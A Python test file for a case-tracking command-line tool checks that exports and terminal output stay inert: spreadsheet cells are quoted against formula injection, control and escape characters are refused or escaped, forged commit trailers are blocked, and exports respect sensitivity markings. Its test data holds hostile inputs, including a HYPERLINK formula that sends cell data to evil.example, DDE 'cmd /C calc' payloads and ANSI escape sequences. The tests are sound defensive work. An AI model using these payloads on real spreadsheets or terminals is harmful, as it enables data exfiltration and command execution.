"""Issue 12, section 6 (output is inert) and the export point of section 5.

Text from a shared repository is shown, never obeyed: no cell of an export
runs as a formula, no single-line field holds a line break (which forged
commit trailers) or a control character, no ESC reaches the terminal, and an
id is written in ASCII digits. `jatac export` takes --audience and carries
the document's marking.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from jatac.guard.inert import csv_bytes, from_spreadsheet_text, spreadsheet_text, visible
from tests.conftest import Jatac, new_issue_args


def refused(jatac: Jatac, *args: str) -> str:
    before, head = jatac.snapshot(), jatac.git("rev-parse", "HEAD")
    result = jatac(*args, ok=False)
    assert result.exit_code == 1, result.output
    assert jatac.snapshot() == before and jatac.git("rev-parse", "HEAD") == head
    assert "\x1b" not in result.output
    return result.stderr


def read_csv(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


# -- formulas -----------------------------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "place": "+cmd|' /C calc'!A0",
    "problem_manager": "-2+3",
    "referred_to": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_no_export_cell_runs_as_a_formula(jatac: Jatac, tmp_path: Path) -> None:
    case = jatac.new(FORMULAS["title"], place=FORMULAS["place"])
    jatac(
        "set",
        case,
        f"problem_manager={FORMULAS['problem_manager']}",
        f"referred_to={FORMULAS['referred_to']}",
    )

    jatac("export", str(tmp_path / "cases.xlsx"))
    sheet = load_workbook(tmp_path / "cases.xlsx").active
    header = [c.value for c in sheet[2]]
    row = {name: cell for name, cell in zip(header, sheet[3], strict=True)}
    for field, text in FORMULAS.items():
        assert row[field].data_type == "s" and row[field].value == text, field  # a string, as written
        assert row[field].quotePrefix  # and Excel keeps it text if the cell is edited
    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line)

    jatac("export", str(tmp_path / "cases.csv"))
    header, *rows = read_csv(tmp_path / "cases.csv")
    values = dict(zip(header, rows[0], strict=True))
    for field, text in FORMULAS.items():
        assert values[field] == "'" + text, field  # the OWASP rule: a leading single quote

    # `list --format csv` goes through the same writer
    listed = read_csv_text(jatac("list", "--format", "csv").stdout_bytes)
    assert listed[1][1] == "'" + FORMULAS["title"]

    # and an export imported again gives the text back as it was
    from jatac.setup.init import init

    fresh = Jatac(init(tmp_path / "fresh", name="Fresh", prefix="JAT").root)
    fresh("import", str(tmp_path / "cases.csv"))
    shown = json.loads(fresh("show", case, "--format", "json").stdout)
    assert shown["title"] == FORMULAS["title"] and shown["place"] == FORMULAS["place"]


def read_csv_text(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted_and_read_back(start: str) -> None:
    text = f"{start}1+1"
    assert spreadsheet_text(text).startswith("'")
    if start != "\r":  # a CR is written out (\x0d), so it cannot come back as one
        assert from_spreadsheet_text(spreadsheet_text(text)) == text
    assert spreadsheet_text(-5) == -5 and spreadsheet_text("Groups at the parade") == "Groups at the parade"
    _, row = csv.reader(io.StringIO(csv_bytes(["a"], [[text]]).decode("utf-8-sig")))
    assert row[0].startswith("'")


# -- one line, no control characters -----------------------------------------------------

FORGED = "Groups at the parade\n\nJatac-Case: JAT-2026-0099\nJatac-Command: close"


@pytest.mark.parametrize(
    ("args", "field", "named"),
    [
        (("title", FORGED), "title", "U+000A (a line break)"),
        (("title", "Groups \x1b[2J\x1b[31mat the parade"), "title", "U+001B (escape)"),
        (("place", "Melrose\u2028Avenue"), "place", "U+2028 (a line separator)"),
        (("place", "Melrose \u202eeunevA"), "place", "U+202E (a text direction control)"),
        (("problem_manager", "ASB\tTeam Leader"), "problem_manager", "U+0009 (a tab)"),
        (("description", "Groups\x1b]0;owned\x07 nightly"), "description", "U+001B (escape)"),
        (("description", "Line one\rLine two"), "description", "U+000D (a carriage return)"),
    ],
)
def test_a_field_with_a_control_character_is_refused_and_named(
    jatac: Jatac, args: tuple[str, str], field: str, named: str
) -> None:
    case = jatac.new()
    said = refused(jatac, "set", case, f"{args[0]}={args[1]}")
    assert f"{field}: holds {named}" in said
    if field == "title":
        said = refused(jatac, *new_issue_args(args[1]))
        assert f"title: holds {named}" in said
    assert "Jatac-Case: JAT-2026-0099" not in jatac.git("log", "--format=%B")


def test_multi_line_text_keeps_its_line_breaks_and_tabs(jatac: Jatac) -> None:
    case = jatac.new(description="Groups gather nightly.\n\n\tCleared 23 times last year.")
    assert "\tCleared 23 times" in json.loads(jatac("show", case, "-f", "json").stdout)["description"]


def test_a_hand_edited_escape_is_refused_by_validate_and_never_printed(jatac: Jatac) -> None:
    case = jatac.new()
    path = jatac.root / f"issues/2026/{case}.yaml"
    path.write_text(
        path.read_text().replace("title: ASB at Melrose Avenue shops", 'title: "ASB \\e[8mhidden"')
    )
    result = jatac("validate", ok=False)
    assert f"issues/2026/{case}.yaml:2:8  title: holds U+001B (escape)" in result.stderr
    for command in (("show", case), ("list",), ("list", "-f", "json")):
        out = jatac(*command, ok=False) if command[0] == "show" else jatac(*command)
        assert "\x1b" not in out.output, command


def test_what_validation_does_not_see_is_printed_escaped(jatac: Jatac) -> None:
    """Comments, commit messages and git's own words are not validated: shown escaped."""
    case = jatac.new()
    path = jatac.root / f"issues/2026/{case}.yaml"
    path.write_text(path.read_text() + "# reviewed \u202eon 2026-11-16\x85\n")
    jatac.git("commit", "-qam", "a partner's push \x1b[2J\x1b[1;1Hall is well")
    shown = jatac("show", case, "-f", "yaml").stdout
    assert "\\u202eon 2026-11-16\\x85" in shown and "\u202e" not in shown and "\x85" not in shown
    history = jatac("history", case).stdout
    assert "\\x1b[2J" in history and "\x1b" not in history


def test_table_output_escapes_control_characters(capsys: pytest.CaptureFixture[str]) -> None:
    from jatac.cli.output import print_json, print_rows

    row = {"id": "JAT-2026-0001", "title": "Groups \x1b[31mred\u202e\x9b"}
    print_rows([row], "table", [("id", "Case"), ("title", "Title")], title="Cases \x1b]0;x")
    print_json([row])
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out and "\x9b" not in out
    assert "Groups \\x1b[31mred\\u202e\\x9b" in out and "Cases \\x1b]0;x" in out
    assert json.loads(out[out.index("[\n") :])[0]["title"] == row["title"]  # JSON: the same data
    assert visible("a\nb\tc", lines=True) == "a\nb\tc" and visible("a\nb") == "a\\x0ab"


# -- ids are ASCII --------------------------------------------------------------------------


@pytest.mark.parametrize("case_id", ["JAT-2026-𝟎𝟎𝟎𝟏", "JAT-2026-٠٠٠١", "JAT-٢٠٢٦-0001", "JAT-2026-０００１"])
def test_an_id_in_other_digits_is_not_an_id(jatac: Jatac, case_id: str) -> None:
    jatac.new()
    assert f"{case_id!r} is not a case id" in refused(jatac, "show", case_id)
    assert "is not a case id" in refused(jatac, "set", case_id, "priority=low")
    year = "2026"
    path = jatac.root / f"issues/{year}/{case_id}.yaml"
    path.write_text(
        (jatac.root / "issues/2026/JAT-2026-0001.yaml").read_text().replace("JAT-2026-0001", case_id)
    )
    result = jatac("validate", ok=False)
    assert f"{case_id!r} is not a case id" in result.stderr
    path.unlink()


def test_a_person_reference_in_other_digits_is_refused(jatac: Jatac) -> None:
    case = jatac.new()
    path = jatac.root / f"issues/2026/{case}.yaml"
    path.write_text(path.read_text() + "people:\n  - ref: P-٠٠٠١\n    role: victim\n")
    assert "people.0.ref" in jatac("validate", ok=False).stderr


# -- export: the audience and the marking ----------------------------------------------------


@pytest.fixture
def marked(jatac: Jatac) -> tuple[Jatac, str, str]:
    """An OFFICIAL case that links a person and names an OFFICIAL-SENSITIVE case."""
    secret = jatac.new("Cuckooing in a block of flats", marking="OFFICIAL-SENSITIVE", category="drugs")
    shown = jatac.new("Fly-tipping behind the shops", description=f"Linked to {secret} by the police.")
    path = jatac.root / f"issues/2026/{shown}.yaml"
    path.write_text(path.read_text() + "people:\n  - ref: P-0001\n    role: witness\n")
    jatac.git("commit", "-qam", "link a witness")
    return jatac, secret, shown


def test_a_wide_export_withholds_sensitive_cases_and_people(
    marked: tuple[Jatac, str, str], tmp_path: Path
) -> None:
    jatac, secret, shown = marked
    out = tmp_path / "wide.csv"
    result = jatac("export", str(out), "--audience", "wide")
    assert "1 OFFICIAL-SENSITIVE case(s) withheld from this version" in result.stderr
    assert "marked OFFICIAL" in result.stdout
    header, *rows = read_csv(out)
    assert header[0] == "document_marking" and "people" not in header
    assert [r[header.index("id")] for r in rows] == [shown] and rows[0][0] == "OFFICIAL"
    text = out.read_text(encoding="utf-8-sig")
    assert secret not in text and "Cuckooing" not in text and "P-0001" not in text and "witness" not in text
    assert "Linked to a withheld case by the police." in text

    book = tmp_path / "wide.xlsx"
    jatac("export", str(book), "--audience", "wide")
    sheet = load_workbook(book).active
    assert sheet["A1"].value == "OFFICIAL" and sheet.oddHeader.center.text == "OFFICIAL"
    assert secret not in json.dumps([[c for c in r] for r in sheet.iter_rows(values_only=True)], default=str)


def test_a_core_export_is_marked_by_the_highest_it_holds(
    marked: tuple[Jatac, str, str], tmp_path: Path
) -> None:
    jatac, secret, shown = marked
    book = tmp_path / "core.xlsx"
    result = jatac("export", str(book))
    assert (
        "marked OFFICIAL-SENSITIVE" in result.stdout and "share it only with the core group" in result.stderr
    )
    sheet = load_workbook(book).active
    assert sheet["A1"].value == "OFFICIAL-SENSITIVE"  # the first thing seen on opening it
    assert sheet.oddHeader.center.text == "OFFICIAL-SENSITIVE"  # and on every printed page
    assert sheet.oddFooter.center.text == "OFFICIAL-SENSITIVE"
    assert [c.value for c in sheet[2]][:3] == ["id", "title", "status"]
    assert {sheet.cell(row=r, column=1).value for r in (3, 4)} == {secret, shown}
    header, *rows = read_csv_out(jatac, tmp_path / "core.csv")
    assert {r[0] for r in rows} == {"OFFICIAL-SENSITIVE"} and len(rows) == 2 and "people" in header


def read_csv_out(jatac: Jatac, path: Path) -> list[list[str]]:
    jatac("export", str(path))
    return read_csv(path)


def test_an_unknown_audience_is_refused(marked: tuple[Jatac, str, str], tmp_path: Path) -> None:
    jatac, _, _ = marked
    said = refused(jatac, "export", str(tmp_path / "x.csv"), "--audience", "everyone")
    assert "'everyone' is not an audience" in said and not (tmp_path / "x.csv").exists()


def test_a_partners_push_is_shown_not_obeyed_by_sync(tmp_path: Path) -> None:
    import subprocess

    from jatac.setup.init import init

    def git(cwd: Path, *args: str) -> None:
        subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)

    mine = Jatac(init(tmp_path / "mine", name="Test CSP", prefix="JAT").root)
    git(tmp_path, "init", "--quiet", "--bare", str(tmp_path / "shared.git"))
    git(mine.root, "remote", "add", "origin", str(tmp_path / "shared.git"))
    git(mine.root, "push", "--quiet", "-u", "origin", "main")
    git(tmp_path, "clone", "--quiet", str(tmp_path / "shared.git"), str(tmp_path / "theirs"))
    theirs = tmp_path / "theirs"
    hostile = (
        'id: JAT-2026-0001\ntitle: "Fly-tipping \\e]0;owned\\a\\e[2J"\ncategory: asb\nlocation: town-centre\n'
    )
    (theirs / "issues/2026").mkdir(parents=True)
    (theirs / "issues/2026/JAT-2026-0001.yaml").write_text(
        hostile + "raised_by: police\nraised_on: 2026-11-16\n"
    )
    git(theirs, "add", ".")
    git(theirs, "commit", "-qm", "a hostile push \x1b[2J")
    git(theirs, "push", "--quiet")
    from jatac.cli import app

    result = mine.runner.invoke(app, ["--repo", str(mine.root), "sync"])
    assert "new case JAT-2026-0001: Fly-tipping \\x1b]0;owned\\x07\\x1b[2J" in result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\x1b" not in mine("history", "JAT-2026-0001").output
